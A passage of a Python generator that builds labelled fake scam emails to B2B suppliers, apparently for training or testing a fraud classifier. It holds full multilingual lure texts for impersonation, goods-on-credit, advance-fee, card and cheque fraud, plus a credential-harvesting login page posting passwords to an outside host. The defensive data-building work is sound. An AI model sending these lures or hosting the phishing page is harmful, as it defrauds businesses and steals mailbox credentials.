                 origin="197.210.54.121", server_tz=1, webmail="Roundcube")
    body_txt = """Sehr geehrte Damen und Herren,

wir sind IKEA Einkauf Deutschland und suchen für die Saison Herbst/Winter 2026 neue Lieferant für Kunstblumen, Kunstpflanzen und Duftkerzen für unsere 54 Einrichtungshäuser in Deutschland, Österreich und Schweiz.

Ihr Unternehmen wurde uns über die Plattform Alibaba empfohlen. Bitte senden Sie uns so schnell wie möglich:

- aktuellen Katalog mit Preisliste (EUR oder USD)
- Mindestbestellmenge und Lieferzeit
- Firmenprofil und Zertifikate (BSCI, ISO)

Wir arbeiten mit alle neuen Lieferanten zu folgende Konditionen: Lieferung DDP Dortmund, Zahlung 90 Tage nach Wareneingang und Qualitätskontrolle. Bei erfolgreiche Zusammenarbeit ist ein Rahmenvertrag über 3 Jahre möglich.

Bitte antworten Sie direkt an unsere Einkaufsabteilung: einkauf@ikeasupply-de.com

Mit freundlichen Grüßen

Jonas Hartmann
Category Manager Home Furnishing Accessories
IKEA Deutschland GmbH & Co. KG
Am Wandersmann 2-4, 65719 Hofheim-Wallau
"""
    root = text(body_txt, flowed=True)
    return dict(seed=102, rcpt="own", t=t,
                from_=("IKEA Einkauf", "einkauf@ikea.com"),
                reply_to=("IKEA Einkauf Deutschland", "einkauf@ikeasupply-de.com"),
                subject="Anfrage Lieferantenaufnahme - IKEA Deutschland / Kunstblumen & Kerzen",
                msgid=f"<{hexr(rnd, 32)}@vps-3b1f9a27.vps.ovh.net>",
                mailer=[("User-Agent", "Roundcube Webmail/1.6.6"), ("MIME-Version", "1.0")],
                envfrom="einkauf@ikea.com", **v,
                auth=dict(spf="softfail", dkim="none", dmarc="fail", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:brand_impersonation", language="de", email="einkauf@ikea.com",
                            company="IKEA Deutschland GmbH & Co. KG", country="DE", website="ikea.com",
                            why="ikea.com spoofed from an OVH VPS webmail (client IP in a Nigerian mobile range), SPF softfail/DMARC fail; Reply-To ikeasupply-de.com; 90 days after receipt; ungrammatical German."))


@mail
def carrefour():
    rnd = random.Random(103)
    t = at(2026, 1, 19, 10, 5, 41, 1)
    v = vps_side(rnd, t, "vmi1893042.contaboserver.net", "161.97.142.203", "vmi1893042.contaboserver.net")
    html_body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:13px;color:#222">
<p>Bonjour Madame, Monsieur,</p>
<p>Nous sommes le service Achats Non-Alimentaire du Groupe Carrefour (France, Belgique, Espagne, Italie). Dans le cadre du référencement de nouveaux fournisseurs pour la collection D&eacute;coration Maison et No&euml;l 2026, votre soci&eacute;t&eacute; a retenue notre attention.</p>
<p>Nous aimerions recevoir dans les meilleurs d&eacute;lais&nbsp;:</p>
<ul>
<li>votre catalogue complet (vases en c&eacute;ramique, fleurs artificielles, d&eacute;corations de No&euml;l, bougies)</li>
<li>vos prix FOB Ningbo/Shanghai et quantit&eacute;s minimum</li>
<li>vos certifications (BSCI / ISO)</li>
</ul>
<p>Les volumes pr&eacute;visionnels sont importants (environ 140 hypermarch&eacute;s en France) avec une premi&egrave;re commande d'essai de 6 conteneurs 40'.</p>
<p>Nos conditions de paiement fournisseur&nbsp;: <b>60 jours fin de mois &agrave; compter de la livraison dans notre entrep&ocirc;t</b>, conform&eacute;ment &agrave; la loi LME.</p>
<p>Merci d'adresser votre r&eacute;ponse uniquement &agrave; notre adresse de traitement des offres&nbsp;: <a href="mailto:carrefour.achats-nonalim@outlook.fr">carrefour.achats-nonalim@outlook.fr</a></p>
<p>Cordialement,</p>
<p><b>Sophie Marchand</b><br>Acheteuse Import Bazar<br>Carrefour France &ndash; Direction des Achats Non Alimentaires<br>93 avenue de Paris, 91300 Massy<br>
<span style="color:#1e5bc6;font-weight:bold">Carrefour</span></p>
</body></html>
"""
    root = html(html_body, cte="b64")
    return dict(seed=103, rcpt="aliyun", t=t,
                from_=("Carrefour Achats", "achats.bazar@carrefour.com"),
                reply_to=("Sophie Marchand", "carrefour.achats-nonalim@outlook.fr"),
                subject="Demande de prix - Achats Non Alimentaire Carrefour / Décoration & Noël 2026",
                msgid=f"<000{hexr(rnd, 1)}01dc{hexr(rnd, 4)}${hexr(rnd, 8)}${hexr(rnd, 8)}@carrefour.com>",
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "Adx" + b64r(rnd, 12)),
                        ("Content-Language", "fr"), ("MIME-Version", "1.0")],
                envfrom="admin@vmi1893042.contaboserver.net", **v,
                auth=dict(spf="none", dkim="none", dmarc="fail", dmarc_policy="p=REJECT sp=REJECT dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:brand_impersonation", language="fr", email="achats.bazar@carrefour.com",
                            company="Carrefour France", country="FR", website="carrefour.com",
                            why="carrefour.com in From, mail left a Contabo VPS with a fake Outlook X-Mailer; DMARC fail; replies diverted to an outlook.fr free-mail box; 60-day terms, 6 containers as bait."))


@mail
def jysk():
    rnd = random.Random(104)
    t = at(2026, 6, 9, 14, 31, 8, 2)
    ip = "49.13.74.201"
    rd = "static.201.74.13.49.clients.your-server.de"
    v = vps_side(rnd, t, "mail.jyskinkoop.nl", ip, rd, origin="84.241.198.37", server_tz=2)
    body_txt = """Goedemiddag,

Mijn naam is Pieter van Dijk, senior inkoper bij JYSK Nederland B.V. Wij bereiden de kerstcollectie 2026 voor onze 93 winkels in Nederland en België voor en zijn op zoek naar een extra leverancier voor kerstdecoratie en keramische vazen.

Concreet zoeken wij:
- kerstballen (glas en onbreekbaar), 6 en 8 cm, in sets
- LED-kerstdecoratie voor de vensterbank
- keramische vazen in 3 maten, matte afwerking

Wij vragen u vriendelijk om uw catalogus en prijslijst (FOB) te sturen. Als nieuwe leverancier werken wij met onze standaard betalingsvoorwaarden: betaling op open rekening, 60 dagen na levering in ons distributiecentrum. Een kopie van ons leveranciershandboek sturen wij na uw reactie.

Graag ontvangen wij ook per DHL 2 stuks van elk artikel als monster op onderstaand adres. De verzendkosten worden verrekend bij de eerste order.

Met vriendelijke groet,

Pieter van Dijk
Senior Buyer Seasonal
JYSK Nederland B.V.
Edisonstraat 17, 6902 PK Zevenaar
T +31 316 74 20 58
"""
    root = text(body_txt, flowed=True)
    return dict(seed=104, rcpt="exmail", t=t,
                from_=("Pieter van Dijk", "p.vandijk@jyskinkoop.nl"),
                subject="Inkoopaanvraag kerstcollectie 2026 - JYSK Benelux",
                msgid=f"<{hexr(rnd, 8)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 12)}@jyskinkoop.nl>",
                mailer=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "nl"), ("MIME-Version", "1.0")],
                envfrom="p.vandijk@jyskinkoop.nl", **v,
                dkim=("jyskinkoop.nl", "mail"),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:lookalike_domain", language="nl", email="p.vandijk@jyskinkoop.nl",
                            company="JYSK Nederland B.V.", country="NL", website="jyskinkoop.nl",
                            why="Claims JYSK but writes from lookalike jyskinkoop.nl (own SPF/DKIM, so headers pass) on a Hetzner cloud host; open account 60 days after delivery plus free samples by DHL."))


@mail
def corte_ingles():
    rnd = random.Random(105)
    t = at(2026, 5, 5, 8, 52, 30, 0)
    v = dict(client={"helo": "WIN-8K3L2P0QF7M", "rdns": None, "ip": "20.117.94.12"},
             hops=[f"from WIN-8K3L2P0QF7M ([127.0.0.1]) by WIN-8K3L2P0QF7M with Microsoft SMTPSVC(10.0.20348.1);\n\t {D(t, 0)}"])
    body_txt = """Estimado proveedor:

El Departamento de Compras de El Corte Inglés, S.A. le invita a participar en el proceso de selección de proveedores para la campaña Hogar Otoño-Invierno 2026.

Artículos solicitados:
  - Portarretratos de madera y metal (10x15, 13x18, 20x25)
  - Jarrones de cerámica decorativos
  - Velas aromáticas en vaso de cristal

Volumen estimado: 35.000 - 50.000 unidades por referencia para nuestros 92 centros en España y Portugal.

Para descargar el pliego de condiciones y las especificaciones técnicas y presentar su oferta, identifíquese en nuestro Portal de Proveedores con su correo corporativo y contraseña:
https://elcorteingles-proveedores.com/portal/acceso?ref=ECI-HD-2026-118

El plazo para presentar ofertas finaliza el 30 de mayo de 2026. Condiciones de pago: 30 % tras inspección en origen y 70 % a 90 días de la recepción.

Atentamente,

Departamento de Compras - Hogar y Decoración
El Corte Inglés, S.A.
Hermosilla, 112 - 28009 Madrid
"""
    root = alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook"))
    return dict(seed=105, rcpt="own", t=t,
                from_=("El Corte Inglés - Departamento de Compras", "compras@elcorteingles.es"),
                reply_to=("Compras ECI", "licitaciones@elcorteingles-proveedores.com"),
                subject="Invitación a cotizar - Hogar y Decoración - Ref. ECI/HD/2026/118",
                msgid=f"<{hexr(rnd, 8, True)}{hexr(rnd, 8, True)}@WIN-8K3L2P0QF7M>",
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
                envfrom="compras@elcorteingles.es", **v,
                auth=dict(spf="fail", dkim="none", dmarc="fail", dmarc_policy="p=REJECT sp=REJECT dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:brand_impersonation", language="es", email="compras@elcorteingles.es",
                            company="El Corte Inglés, S.A.", country="ES", website="elcorteingles.es",
                            why="elcorteingles.es forged from an Azure VM with no PTR (SPF/DMARC fail); Reply-To and 'supplier portal' log-in link on lookalike elcorteingles-proveedores.com."))


@mail
def hartwell():
    rnd = random.Random(106)
    t = at(2026, 2, 24, 9, 17, 44, 0)
    v = vps_side(rnd, t, "mail.hartwell-distribution.co.uk", "172.104.155.23", "172-104-155-23.ip.linodeusercontent.com",
                 origin="102.89.47.210", server_tz=0)
    body_txt = """Good morning,

I am the Purchasing Director at Hartwell Distribution Ltd, a UK wholesale distributor established in 1987 supplying giftware and home accessories to over 1,200 independent retailers, garden centres and regional chains across the UK and Ireland from our 5 distribution centres.

We are expanding our home decor range for Q3/Q4 and your products caught our attention, in particular your ceramic vases, candles and seasonal decorations. Could you please send your full catalogue together with trade price list, MOQ and lead times.

Our initial order is expected to be in the region of GBP 80,000 - 95,000 and we would be looking at regular monthly replenishment orders thereafter.

For your information we trade with all our suppliers on a 60 day open account basis from date of delivery. I have attached our Credit Account Application with trade references and bank details so your accounts team can open the account before the first order. Delivery would be DAP to our main warehouse in Northampton.

I look forward to hearing from you.

Kind regards,

Graham Whitlock
Purchasing Director
Hartwell Distribution Ltd
Unit 7, Brackmills Industrial Estate, Northampton NN4 7PB
Registered in England & Wales No. 02184736 | VAT GB 412 8837 61
Tel: +44 1604 968 212
"""
    pdf = pdf_doc("Hartwell Distribution Ltd - Credit Account Application (Supplier copy)", [
        "Company: Hartwell Distribution Ltd. Registered office: Unit 7, Brackmills Industrial Estate, Northampton NN4 7PB. "
        "Company No. 02184736. Trading since 1987. Annual turnover: GBP 38.6m.",
        "Requested terms: 60 days net from date of delivery. Requested credit limit: GBP 150,000.",
        "Bankers: Lloyds Bank plc, Northampton. Accounts payable contact: accounts@hartwell-distribution.co.uk",
    ], table=[["Trade reference", "Contact", "Telephone", "Account since"],
              ["Castlegate Giftware Ltd", "M. Danby", "+44 1909 512 330", "2011"],
              ["Thornbury Homewares", "S. Patel", "+44 1454 880 219", "2016"],
              ["Brookfield Seasonal Imports", "R. Collins", "+44 1733 604 771", "2019"]],
        widths=[60, 40, 45, 35], small="Signed for and on behalf of Hartwell Distribution Ltd: G. Whitlock, Purchasing Director.")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook")),
                 [attachment(pdf, "Hartwell_Credit_Account_Application.pdf", "application/pdf", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=106, rcpt="own", t=t,
                from_=("Graham Whitlock", "graham.whitlock@hartwell-distribution.co.uk"),
                reply_to=("Graham Whitlock", "graham.whitlock@hartwelldistribution-ltd.com"),
                subject="New supplier enquiry - Hartwell Distribution Ltd",
                msgid=f"<{hexr(rnd, 12)}$ {hexr(rnd, 6)}@hartwell-distribution.co.uk>".replace(" ", ""),
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "en-gb"), ("MIME-Version", "1.0")],
                envfrom="graham.whitlock@hartwell-distribution.co.uk", **v,
                auth=dict(spf="pass", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:goods_on_credit", language="en", email="graham.whitlock@hartwell-distribution.co.uk",
                            company="Hartwell Distribution Ltd", country="GB", website="hartwell-distribution.co.uk",
                            why="'Purchasing Director' of a big distribution network wants the catalogue and 60-day open account; sent through a Linode host by a client in a Nigerian mobile range; Reply-To on a second lookalike domain."))


@mail
def rheinmark():
    rnd = random.Random(107)
    t = at(2026, 9, 15, 10, 22, 5, 2)
    v = vps_side(rnd, t, "vmi2217785.contaboserver.net", "207.180.213.58", "vmi2217785.contaboserver.net",
                 origin="105.112.31.86", server_tz=2)
    body_txt = """Sehr geehrte Damen und Herren,

die Rheinmark Handelsgesellschaft mbH beliefert seit über 25 Jahren Bau- und Gartenmärkte, Möbelhäuser und den Facheinzelhandel in Deutschland, den Niederlanden und Polen. Unser Vertriebsnetz umfasst derzeit mehr als 340 Abnehmer.

Im Zuge unserer Sortimentserweiterung im Bereich Wohnaccessoires möchten wir Sie bitten, uns Ihren aktuellen Gesamtkatalog samt Preisliste zukommen zu lassen. Interessant sind für uns insbesondere Keramikvasen, Bilderrahmen und Weihnachtsdekoration.

Zu unseren Konditionen: Wir zahlen grundsätzlich per offener Rechnung, 90 Tage netto nach Lieferung, bei Neuware nach Abverkauf an unsere Kunden. Unsere Forderungen sind über eine Warenkreditversicherung abgesichert; Auskünfte erhalten Sie gerne über Creditreform. Lieferung bitte DAP Lager Duisburg-Rheinhausen.

Für die erste Bestellung rechnen wir mit ca. 4 bis 6 Containern.

Wir freuen uns auf Ihre Rückmeldung.

Mit freundlichen Grüßen
i.A. Dr. Matthias Kessler
Leiter Einkauf / Head of Purchasing

Rheinmark Handelsgesellschaft mbH
Logistikpark Rheinhausen, Halle 4
47229 Duisburg
Tel. +49 2065 839 47-0 | Fax +49 2065 839 47-19
Amtsgericht Duisburg HRB 28417 | Geschäftsführer: Thomas Wenzel
"""
    root = alt(text(body_txt), html(para_html(body_txt, "plain")), bnd(rnd, "thunderbird"))
    return dict(seed=107, rcpt="aliyun", t=t,
                from_=("Dr. Matthias Kessler", "m.kessler@rheinmark-handel.de"),
                subject="Anfrage Sortimentserweiterung Wohndeko - Rheinmark Handelsgesellschaft mbH",
                msgid=f"<{hexr(rnd, 8)}.{hexr(rnd, 6)}@rheinmark-handel.de>",
                mailer=[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.2.0"),
                        ("Content-Language", "de-DE"), ("MIME-Version", "1.0")],
                envfrom="m.kessler@rheinmark-handel.de", **v,
                dkim=("rheinmark-handel.de", "default"),
                auth=dict(spf="pass", dkim="pass", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:goods_on_credit", language="de", email="m.kessler@rheinmark-handel.de",
                            company="Rheinmark Handelsgesellschaft mbH", country="DE", website="rheinmark-handel.de",
                            why="Catalogue for a '340-customer network', open invoice 90 days after delivery or after resale, 4-6 containers; Contabo VPS with a Nigerian client IP although SPF/DKIM pass for its own domain."))


@mail
def adriatica():
    rnd = random.Random(108)
    t = at(2026, 10, 6, 11, 3, 51, 2)
    v = vps_side(rnd, t, "ns3178245.ip-51-75-66.eu", "51.75.66.140", "ns3178245.ip-51-75-66.eu")
    body_txt = """Spett.le Ditta,

siamo il Gruppo Adriatica Distribuzione S.p.A., rete di distribuzione con 65 punti vendita tra Abruzzo, Marche e Puglia nel settore casa, giardino e regalistica.

Stiamo selezionando nuovi fornitori dalla Cina per le linee: vasi in ceramica, fiori artificiali, cornici portafoto e addobbi natalizi. Vi chiediamo cortesemente di inviarci:
1) catalogo completo con listino prezzi;
2) condizioni di fornitura e tempi di consegna;
3) certificazioni aziendali.

Per i nuovi fornitori la nostra politica prevede la merce in conto vendita per il primo ordine, con pagamento a 90 giorni dalla rivendita; dal secondo ordine pagamento a 60 giorni data fattura fine mese. Il primo ordine è stimato in circa 180.000 euro.

Restiamo in attesa di un Vostro cortese riscontro.

Distinti saluti

Dott. Luca Ferraresi
Direttore Acquisti
Gruppo Adriatica Distribuzione S.p.A.
Via Tiburtina Valeria 318 - 65129 Pescara
P.IVA 02184470689
"""
    root = text(body_txt, cte="b64")
    return dict(seed=108, rcpt="exmail", t=t,
                from_=("Ufficio Acquisti", "acquisti@gruppoadriatica-distribuzione.it"),
                subject="Richiesta catalogo e condizioni - Gruppo Adriatica Distribuzione",
                msgid=f"<{alnum(rnd, 32)}@gruppoadriatica-distribuzione.it>",
                mailer=[("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"), ("MIME-Version", "1.0")],
                envfrom="acquisti@gruppoadriatica-distribuzione.it", **v,
                auth=dict(spf="pass", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:goods_on_credit", language="it", email="acquisti@gruppoadriatica-distribuzione.it",
                            company="Gruppo Adriatica Distribuzione S.p.A.", country="IT", website="gruppoadriatica-distribuzione.it",
                            why="First order on consignment, paid 90 days after resale; PHP mailer on an OVH dedicated server; EUR 180k bait for an unknown 'purchasing director'."))


@mail
def rawabi():
    rnd = random.Random(109)
    t = at(2026, 7, 13, 13, 40, 22, 3)
    v = vps_side(rnd, t, "iZl4v0c8f5a9qaZ", "47.91.108.213")
    body_txt = """السادة/ شركة نينغبو إيفربرايت للديكور المنزلي المحترمين
السلام عليكم ورحمة الله وبركاته،

يسرنا إبلاغكم بأن مؤسستنا "مؤسسة الروابي الملكية للمشاريع" قد تم تكليفها بتجهيز عدد من الفنادق والقصور الحكومية في الرياض وجدة، ونود دعوتكم لتقديم عرض سعر للأصناف التالية:

- زهور صناعية (تنسيقات جاهزة بأحجام مختلفة): 50,000 قطعة
- مزهريات سيراميك فاخرة: 8,000 قطعة
- شموع معطرة للأجنحة والقاعات: 20,000 قطعة

مدة العقد ثلاث سنوات قابلة للتجديد، وسيتم دفع 70% من قيمة كل طلبية كدفعة مقدمة فور توقيع العقد، والباقي بعد الاستلام.

ملاحظة هامة: وفقاً لأنظمة المشتريات الحكومية يجب على جميع الموردين الأجانب التسجيل في قائمة الموردين المعتمدين عن طريق وكيلنا المعتمد قبل توقيع العقد. رسوم التسجيل 1,850 دولار أمريكي تدفع مرة واحدة وتسترد مع الدفعة الأولى. التفاصيل في ملف المناقصة المرفق.

نرجو إرسال ردكم على البريد: alrawabi.tenders@gmail.com

وتفضلوا بقبول فائق الاحترام،
م. خالد بن سعد العتيبي
مدير المشتريات
مؤسسة الروابي الملكية للمشاريع
الرياض - المملكة العربية السعودية
جوال/واتساب: +966 53 418 2276
"""
    pdf = pdf_doc("TENDER INVITATION No. ARP-2026-077", [
        "Project: Furnishing and decoration of government hotels and guest palaces, Riyadh and Jeddah.",
        "Contract period: 36 months, renewable. Advance payment: 70% of each order value upon contract signing.",
        "Vendor registration: all foreign suppliers must be listed on the Approved Vendor List before signing. "
        "Registration is processed exclusively by our accredited agent, Mr. Faisal Al-Harbi. Registration fee: USD 1,850 "
        "(one time, refundable with the first advance payment). Payment details are provided by the agent on request.",
        "Deadline for quotations: 10 working days from the date of this invitation.",
    ], table=[["Item", "Description", "Quantity"],
              ["1", "Artificial flower arrangements, assorted sizes", "50,000 pcs"],
              ["2", "Luxury ceramic vases", "8,000 pcs"],
              ["3", "Scented candles for suites and halls", "20,000 pcs"]], widths=[20, 120, 40],
        small="Al-Rawabi Royal Projects Establishment - Procurement Department - Riyadh, Kingdom of Saudi Arabia")
    root = mixed(text(body_txt, cte="b64"), [attachment(pdf, "Tender_Invitation_ARP-2026-077.pdf", "application/pdf", "php")],
                 bnd(rnd, "phpmailer"))
    return dict(seed=109, rcpt="own", t=t,
                from_=("Al-Rawabi Royal Projects", "tenders@alrawabi-royalprojects.com"),
                reply_to=("م. خالد العتيبي", "alrawabi.tenders@gmail.com"),
                subject="دعوة لتقديم عرض سعر - مشروع تجهيز فنادق وقصور - مناقصة رقم ARP-2026-077",
                msgid=f"<{hexr(rnd, 32)}@alrawabi-royalprojects.com>",
                mailer=[("X-Mailer", "PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)"), ("MIME-Version", "1.0")],
                envfrom="tenders@alrawabi-royalprojects.com", **v,
                auth=dict(spf="neutral", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:advance_fee_registration", language="ar", email="tenders@alrawabi-royalprojects.com",
                            company="Al-Rawabi Royal Projects Establishment", country="SA", website="alrawabi-royalprojects.com",
                            why="Huge 3-year government contract with 70% down payment, but the supplier must first pay a USD 1,850 'vendor registration' through an 'accredited agent'; Alibaba Cloud ECS sender; replies to Gmail."))


@mail
def card_agent():
    rnd = random.Random(110)
    t = at(2026, 8, 11, 7, 55, 12, 1)
    g = gmail_side(rnd, t)
    body_txt = """Hello,

My name is Mark Dawson, i own a home furnishing store here in Tulsa, Oklahoma. I came across your products and i will like to place an order for the following items

Ceramic vases (assorted) - 350pcs
Scented candles - 600pcs
Photo frames 8x10 - 250pcs

Please get back to me with the total cost of the items with shipping inclusive. Kindly note that i will be making payment with my credit card (Visa/Master) for the purchase, and i have a shipping agent that will handle the pick up from your factory because i have been doing business with him for many years.

The shipping agent does not accept credit card, so what i need you to do is to charge my card for the order total plus the agent freight charge of $2,850 and then send the freight charge to him by wire transfer or Western Union once the payment is confirmed on your end. He will arrange the pickup immediately.

Please let me know if this is ok with you so that i can send my card details. Hope to hear from you soon.

Regards
Mark Dawson
"""
    root = alt(text(body_txt), html(para_html(body_txt, "gmail")), bnd(rnd, "gmail"))
    return dict(seed=110, rcpt="aliyun", t=t,
                from_=("Mark Dawson", "mdawson.homestore@gmail.com"),
                subject="Order Inquiry", msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="mdawson.homestore@gmail.com", client=g["client"], hops=g["hops"], pre=g["pre"],
                dkim=("gmail.com", "20230601", ["mime-version", "from", "date", "message-id", "subject", "to"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:credit_card_shipping_agent", language="en", email="mdawson.homestore@gmail.com",
                            company="", country="US", website="",
                            why="Classic stolen-card fraud: pay by card for a wholesale order and forward USD 2,850 'freight' to his agent by Western Union; clean Gmail headers but Date is +0100 for a 'Tulsa' shop."))


@mail
def villalba():
    rnd = random.Random(111)
    t = at(2026, 3, 27, 16, 20, 3, 0)
    ms = m365_side(rnd, t, "eur3", consumer=True)
    body_txt = """Buenos días,

Soy Jorge Villalba, propietario de una tienda de decoración en Valencia (España). Estuve revisando sus productos y me gustaría hacer un pedido:

- 400 jarrones de cerámica (modelos variados)
- 600 ramos de flores artificiales
- 300 marcos de fotos

Por favor envíeme la factura proforma con el precio total. El envío lo realizará mi agente de transporte, que ya trabaja conmigo hace años y se encarga del despacho de aduana.

El pago lo haré con un cheque bancario certificado de un cliente mío en EE.UU. que me debe dinero. El cheque incluirá el valor de la mercancía más los costes de mi agente (4.200 USD). Cuando usted cobre el cheque, solo tiene que enviar la diferencia a mi agente por Western Union o Ria para que pueda recoger la mercancía en su fábrica.

Necesito su nombre completo, dirección y teléfono para enviarle el cheque por courier.

Espero su pronta respuesta.

Saludos cordiales,
Jorge A. Villalba
"""
    root = alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook"))
    return dict(seed=111, rcpt="exmail", t=t,
                from_=("Jorge A. Villalba", "jvillalba.importaciones@outlook.es"),
                subject="Pedido para nuestra tienda en Valencia", msgid=ms["msgid"],
                thread=[("Thread-Topic", "Pedido para nuestra tienda en Valencia"), ("Thread-Index", thread_index(rnd))],
                mailer=[("Accept-Language", "es-ES, en-US"), ("Content-Language", "es-ES"), ("MIME-Version", "1.0")],
                envfrom="jvillalba.importaciones@outlook.es", client=ms["client"], hops=ms["hops"], pre=ms["pre"],
                dkim=("outlook.es", "selector1", ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:cheque_overpayment", language="es", email="jvillalba.importaciones@outlook.es",
                            company="", country="ES", website="",
                            why="Overpayment cheque from a third party that 'includes the transport agent's fee'; seller is asked to wire the difference by Western Union/Ria. Headers are clean outlook.com."))


@mail
def kestrel():
    rnd = random.Random(112)
    t = at(2026, 6, 16, 8, 11, 39, 1)
    ms = m365_side(rnd, t, "eur2")
    url = "https://kp-docs-review.pages.dev/?u=" + "sales%40ningbo-homedecor.cn"
    body_txt = """Hi,

Please find attached our revised purchase order KP-22871 with updated quantities for Q3. Kindly review and confirm the delivery schedule at your earliest.

The document is protected - sign in with your email account to open it.

Thanks & regards,

Sandra Hollis
Procurement Coordinator
Kestrel Packaging Solutions Ltd

-----Original Message-----
From: Sales <info@ningbo-homedecor.cn>
Sent: 02 June 2026 03:14
To: Sandra Hollis <s.hollis@kestrelpackaging.co.uk>
Subject: PO KP-22871

Dear Sandra,
Noted with thanks, we will check and revert.
Best regards
"""
    pdf = pdf_link_only(url, "VIEW SECURED DOCUMENT")
    root = mixed(alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook")),
                 [attachment(pdf, "PO_KP-22871_rev2.pdf", "application/pdf", "outlook")], bnd(rnd, "outlook"))
    return dict(seed=112, rcpt="own", t=t,
                from_=("Sandra Hollis", "s.hollis@kestrelpackaging.co.uk"),
                subject="RE: PO KP-22871 - revised qty & delivery", msgid=ms["msgid"],
                thread=[("Thread-Topic", "PO KP-22871 - revised qty & delivery"), ("Thread-Index", thread_index(rnd)),
                        ("X-MS-Has-Attach", "yes")],
                mailer=[("Accept-Language", "en-GB, en-US"), ("Content-Language", "en-GB"), ("MIME-Version", "1.0")],
                envfrom="s.hollis@kestrelpackaging.co.uk", client=ms["client"], hops=ms["hops"], pre=ms["pre"],
                dkim=("kestrelpackaging.co.uk", "selector1", ["From", "Date", "Subject", "Message-ID", "Content-Type", "MIME-Version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
                            kind="scam:phishing_pdf", language="en", email="s.hollis@kestrelpackaging.co.uk",
                            company="Kestrel Packaging Solutions Ltd", country="GB", website="kestrelpackaging.co.uk",
                            why="Fake 'RE:' thread from an apparently compromised Microsoft 365 mailbox (all auth pass); the PDF 'PO' contains only a button linking to a log-in page on pages.dev."))


@mail
def sunrise_html():
    rnd = random.Random(113)
    t = at(2026, 5, 19, 15, 27, 33, 8)
    v = vps_side(rnd, t, "45.77.21.160.vultrusercontent.com", "45.77.21.160", "45.77.21.160.vultrusercontent.com")
    body_txt = """您好！

我司是香港一家贸易公司，客户在欧洲，近期有一批家居饰品订单（陶瓷花瓶、香薰蜡烛），详细规格和数量请看附件询价单。

附件需要用贵司企业邮箱账号登录后查看，请尽快报价，客户催得比较急。

谢谢！
周经理
香港旭日贸易有限公司
"""
    page = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>腾讯企业邮箱 - 安全文件查看</title>
<style>body{background:#eef2f7;font-family:"Microsoft YaHei",Arial}.b{width:360px;margin:90px auto;background:#fff;padding:28px;border-radius:6px;box-shadow:0 2px 10px #bbb}
h2{color:#1f6fd0;margin:0 0 12px}input{width:100%;padding:9px;margin:7px 0;border:1px solid #ccc;box-sizing:border-box}button{width:100%;padding:10px;background:#1f6fd0;color:#fff;border:0}</style></head>
<body><div class="b"><h2>腾讯企业邮</h2>
<p>文件“询价单_RFQ-2026-0519.xlsx”已加密，为保护您的数据安全，请先验证企业邮箱账号。</p>
<form method="post" action="https://exmail-qq-verify.top/api/v2/login.php">
<input type="text" name="u" value="sales@nbeverbright.com" readonly>
<input type="password" name="p" placeholder="请输入邮箱密码" required>
<button type="submit">登录并查看文件</button></form>
<p style="font-size:11px;color:#999">© 1998 - 2026 Tencent Inc. All Rights Reserved</p></div></body></html>
"""
    root = mixed(text(body_txt, cte="b64"), [attachment(page.encode(), "询价单_RFQ-2026-0519.html", "text/html", "php")],
                 bnd(rnd, "foxmail"))
    return dict(seed=113, rcpt="exmail", t=t,
                from_=("周经理", "zhou.purchase@hk-sunrise-trading.com"),
                subject="询价单 RFQ-2026-0519（请查收附件）",
                msgid=f"<{alnum(rnd, 24)}@hk-sunrise-trading.com>",
                mailer=[("X-Mailer", "Foxmail 7.2.25.228[cn]"), ("MIME-Version", "1.0")],
                envfrom="zhou.purchase@hk-sunrise-trading.com", **v,
                auth=dict(spf="none", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="X", expected_buyer_type="unknown", is_genuine=False,
